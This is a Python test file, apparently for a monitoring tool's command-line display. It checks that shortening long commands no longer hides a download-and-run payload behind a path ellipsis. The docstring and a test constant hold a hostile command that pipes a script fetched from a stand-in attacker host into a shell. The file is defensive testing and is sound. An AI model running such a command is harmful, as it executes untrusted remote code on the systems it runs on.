"""A long command line cannot hide its payload behind ``…/`` (hostile tester
wt9-attack, session j).

``command_text`` shortens a long command line by keeping the last component of each
argument holding a ``/``, meant for paths. It did so for any argument, a shell script
included: the cron-style ``sh -c "curl -s http://evil.example/x.sh | sh; exec python3
/home/alice/train.py --epochs 10"`` was shown in findings as ``sh -c …/train.py --epochs
10``: the download hidden, a plain training script shown. Only an argument that is one
path (no white space) is shortened now; the rest is clipped at its end, so what the
command line starts with is what a reader sees.
"""

from __future__ import annotations

from rogue_watchdog.hosttext import command_text, quoted_command

SCRIPT = "curl -s http://evil.example/x.sh | sh; exec python3 /home/alice/train.py --epochs 10"


def test_a_shell_script_argument_is_clipped_at_its_end_not_cut_to_its_last_path() -> None:
    shown = quoted_command(["/bin/sh", "-c", SCRIPT], 60)
    assert shown == "`sh -c curl -s http://evil.example/x.sh | sh; exec python3 /…`"
    assert "evil.example" in shown


def test_paths_are_still_shortened() -> None:
    argv = ["/root/.pyenv/versions/3.11.7/bin/python", "/home/alice/projects/big/train.py", "-x"]
    assert command_text(argv, 30) == "python …/train.py -x"
